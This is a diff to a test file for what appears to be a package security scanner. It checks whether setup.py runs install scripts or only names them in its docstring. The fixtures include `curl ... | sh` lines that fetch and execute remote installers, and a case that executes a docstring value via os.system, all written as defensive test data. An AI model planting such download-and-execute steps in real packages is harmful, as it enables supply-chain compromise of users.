@@ -4039,3 +4039,32 @@ def test_a_build_fetching_its_library_for_the_target_triple_sends_no_secret():
 def test_a_secret_in_the_address_of_a_build_download_is_still_sent(url):
     result = scan({"setup.py": _ASSET.format(url=url), "demo/__init__.py": ""})
     assert severities(result, "intent.exfiltration") == {"critical"}
+
+
+# -- a script named in setup.py's docstring or comments is advice, not a command ----------------
+
+
+def test_a_script_named_only_in_setup_py_s_docstring_is_the_developers_tool():
+    """freeze-core: setup.py's docstring says `ci/install-tools.sh --dev --tests` (whose
+    installer of uv is `curl ... | sh`): setup.py never runs it."""
+    setup = (
+        '"""Develop with:\n    ci/install-tools.sh --dev\n"""\n# or ci/install-tools.sh\n' + SETUP
+    )
+    tool = "#!/bin/sh\ncurl -LsSf https://astral.sh/uv/install.sh | sh\n"
+    result = scan({"setup.py": setup, "ci/install-tools.sh": tool, "demo/__init__.py": ""})
+    assert severities(result, "intent.shell-download-execute") == {"medium"}
+    assert result.verdict not in FLAGGED
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        'import subprocess\nsubprocess.run(["sh", "ci/install-tools.sh"])\n',  # run by its code
+        "import os\nos.system(__doc__.split()[2])\n",  # the docstring read as data
+    ],
+)
+def test_a_script_setup_py_s_code_names_is_still_install_time_code(code):
+    setup = '"""Develop with:\n    ci/install-tools.sh --dev\n"""\n' + code + SETUP
+    tool = "#!/bin/sh\ncurl -LsSf https://example.net/install.sh | sh\n"
+    result = scan({"setup.py": setup, "ci/install-tools.sh": tool, "demo/__init__.py": ""})
+    assert severities(result, "intent.shell-download-execute") == {"critical"}
